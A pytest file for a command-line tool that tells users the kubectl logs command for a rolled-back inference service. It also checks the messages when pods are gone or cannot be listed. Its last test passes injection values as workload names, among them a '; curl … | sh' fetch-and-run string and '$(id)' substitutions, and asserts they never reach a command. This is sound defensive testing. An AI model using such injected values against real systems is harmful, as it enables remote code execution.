"""A version that was taken back: its own logs say why it failed, and the command line says how to read them."""

import json

import pytest
from typer.testing import CliRunner

from serin.cli.live.logs import logs_of
from serin.cli.live.session import Session
from serin.cli.main import app
from serin.cluster.direct import Objects
from serin.cluster.resources import Resource
from serin.errors import Refused
from tests.fake_api import Desk, FakeApi, desk_of
from tests.lab import Lab

LABEL = "serving.kserve.io/inferenceservice"


@pytest.fixture
def desk(monkeypatch: pytest.MonkeyPatch) -> Desk:
    made = desk_of(Lab(), monkeypatch)
    made.go_live()
    made.take_back()
    return made


def told(*arguments: str) -> str:
    result = CliRunner().invoke(app, list(arguments))
    assert result.exit_code == 0, result.output
    return " ".join(result.stdout.split())


def workload(desk: Desk) -> str:
    return f"fraud-{desk.lab.status['rejected'][0]['revision']}"


def test_the_logs_are_named_while_the_pods_are_there(desk: Desk) -> None:
    name = workload(desk)
    pod = {"metadata": {"name": "x", "namespace": "prod", "labels": {LABEL: name}}}
    desk.lab.cluster.pods.append({"apiVersion": "v1", "kind": "Pod", **pod})
    for command in ("explain", "get"):
        assert f"kubectl logs -n prod -l {LABEL}={name} --tail=50" in told(command, "fraud"), command
    found = json.loads(told("get", "fraud", "-o", "json"))
    assert found["logs"].startswith("why it failed stands in its logs: ")


@pytest.mark.usefixtures("desk")
def test_that_the_pods_are_gone_is_said() -> None:
    for command in ("explain", "get"):
        shown = told(command, "fraud")
        assert "its pods are gone" in shown
        assert "kubectl logs" not in shown


def test_who_may_not_list_pods_is_told_the_command_all_the_same(desk: Desk) -> None:
    class Shut(FakeApi):
        def list(self, resource: Resource, namespace: str, selector: str = "") -> Objects:
            raise Refused(f"cannot list {resource.plural} in {namespace} by {selector}")

    found = logs_of(Session(Shut(desk.lab), "prod"), {"workload": {"kind": "InferenceService", "name": "fraud-x"}})
    assert found is not None
    assert "while its pods are there: `kubectl logs -n prod" in found


def test_a_version_that_serves_has_no_such_line(monkeypatch: pytest.MonkeyPatch) -> None:
    made = desk_of(Lab(), monkeypatch)
    made.go_live()
    assert "logs" not in told("get", "fraud")
    assert logs_of(Session(made.api, "prod"), None) is None
    assert logs_of(Session(made.api, "prod"), {"workload": {"kind": "Deployment", "name": "x"}}) is None


@pytest.mark.parametrize("name", ["x; curl -s https://elsewhere | sh", "x$(id)", "x`id`", "x\nid", "-A", 7])
def test_a_name_that_no_object_has_is_in_no_command(desk: Desk, name: object) -> None:
    assert logs_of(Session(desk.api, "prod"), {"workload": {"kind": "InferenceService", "name": name}}) is None
